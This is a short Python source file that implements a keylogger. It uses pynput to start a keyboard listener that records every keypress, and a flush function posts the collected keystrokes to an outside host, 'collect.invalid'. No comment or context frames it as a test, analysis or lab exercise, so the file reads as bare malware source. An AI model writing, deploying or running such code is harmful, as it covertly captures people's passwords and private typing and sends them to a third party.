import requests
from pynput import keyboard

KEYS = []

def pressed(key):
    KEYS.append(str(key))

def start():
    keyboard.Listener(on_press=pressed).start()

def flush():
    requests.post("http://collect.invalid/", data="".join(KEYS))
